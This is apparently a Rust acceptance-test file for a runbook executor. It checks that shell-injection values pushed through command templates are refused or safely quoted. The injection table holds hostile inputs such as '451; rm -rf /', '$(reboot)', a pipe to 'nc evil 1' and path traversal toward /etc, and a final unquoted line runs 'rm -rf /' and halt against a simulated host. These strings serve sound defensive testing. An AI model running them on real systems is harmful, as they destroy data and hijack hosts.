//! Acceptance 4 of the executors: an injection table pushed through every templated parameter.
//! Each value is refused before anything runs, or quoted so a POSIX shell reads it as one inert
//! word; the twin's log proves nothing else ran.

use crate::common;

use common::twin::Twin;
use runbookd::exec::command::{AbsPath, CertFingerprint, Name, Value, Vmid, quote};

/// Shell metacharacters, option injection and unicode tricks.
const NASTY: [&str; 14] = [
    "451; rm -rf /",
    "451 && reboot",
    "$(reboot)",
    "`reboot`",
    "451\nreboot",
    "451' ; reboot ; '",
    "451\" ; reboot ; \"",
    "--all",
    "-rf",
    "451 | nc evil 1",
    "４５１",
    "451\u{202e}",
    "pbs-datastore/../../etc",
    "a\0b",
];

/// Every parameter type a template takes, by how labels become values.
fn parse_as(kind: &str, text: &str) -> Result<Value, String> {
    match kind {
        "vmid" => Vmid::parse(text).map(Value::Vmid),
        "name" => Name::parse(text).map(Value::Name),
        "path" => AbsPath::parse(text).map(Value::Path),
        "fingerprint" => CertFingerprint::parse(text).map(Value::Fingerprint),
        _ => unreachable!(),
    }
    .map_err(|e| e.to_string())
}

/// The templates the playbook uses, one per parameter type, and where they run.
const TEMPLATES: [(&str, &str, &str); 6] = [
    ("vmid", "ruapehu", "qm status {value}"),
    ("vmid", "ruapehu", "cat /var/log/vzdump/qemu-{value}.log"),
    ("name", "pbs", "systemctl restart {value}"),
    (
        "name",
        "pihanga",
        "pvesh set /cluster/backup/{value} --enabled 1",
    ),
    ("path", "pbs", "df -h {value}"),
    (
        "fingerprint",
        "pihanga",
        "pvesm set pbs-pihanga --fingerprint {value}",
    ),
];

#[tokio::test]
async fn every_nasty_value_is_refused_before_anything_runs() {
    let twin = Twin::start("healthy").await;
    for (kind, host, template) in TEMPLATES {
        for nasty in NASTY {
            match parse_as(kind, nasty) {
                Err(message) => assert!(!message.is_empty()),
                Ok(value) => {
                    // Accepted values must still reach the host as exactly one command.
                    twin.run(host, template, &[("value", value)]).await.unwrap();
                }
            }
        }
    }
    let log = twin.lab.with_world(|w| w.received.clone());
    assert!(
        log.is_empty(),
        "nothing was sent: {:?}",
        log.iter().map(|r| &r.text).collect::<Vec<_>>()
    );

    // A clean value does run, as one command with the value as one word.
    twin.run(
        "ruapehu",
        "qm status {value}",
        &[("value", parse_as("vmid", "451").unwrap())],
    )
    .await
    .unwrap();
    let log = twin.lab.with_world(|w| w.received.clone());
    assert_eq!(log.len(), 1);
    assert_eq!(log[0].executed, ["timeout -k 5 5 qm status 451"]);
}

#[tokio::test]
async fn the_refusals_say_what_is_wrong() {
    assert_eq!(
        parse_as("vmid", "451; rm -rf /").unwrap_err(),
        "VMID '451; rm -rf /' is invalid: must be an integer"
    );
    assert_eq!(
        parse_as("name", "--all").unwrap_err(),
        "name '--all' is invalid: must not start with '-'"
    );
    assert!(
        parse_as("path", "pbs-datastore/../../etc")
            .unwrap_err()
            .contains("must be absolute")
    );
}

#[tokio::test]
async fn quoted_text_is_one_inert_word_for_the_twin_and_for_a_real_shell() {
    let twin = Twin::start("healthy").await;
    for nasty in NASTY.iter().filter(|n| !n.contains('\0')) {
        let quoted = quote(nasty).unwrap();
        // The twin's reading of the line: one command, the value intact as one argument.
        let outcome = twin
            .lab
            .with_world(|w| runbookd::lab::shell::run(w, "pbs", &format!("ls {quoted}")));
        assert_eq!(
            outcome.executed.len(),
            1,
            "{nasty:?} → {quoted}: {:?}",
            outcome.executed
        );
        assert_eq!(shlex::split(&outcome.executed[0]).unwrap(), ["ls", nasty]);
        // And a real POSIX shell agrees.
        let printed = std::process::Command::new("sh")
            .args(["-c", &format!("printf %s {quoted}")])
            .output()
            .unwrap();
        assert_eq!(
            String::from_utf8(printed.stdout).unwrap(),
            *nasty,
            "sh read {quoted} differently"
        );
    }
    assert!(
        quote("a\0b").is_err(),
        "NUL cannot be quoted and is refused"
    );
    // Unquoted, the same text would have run more: the twin sees it.
    let outcome = twin.lab.with_world(|w| {
        runbookd::lab::shell::run(w, "pbs", "ls 451; rm -rf / && reboot `id` $(halt)")
    });
    assert_eq!(
        outcome.executed,
        ["id", "halt", "ls 451", "rm -rf /", "reboot"]
    );
}
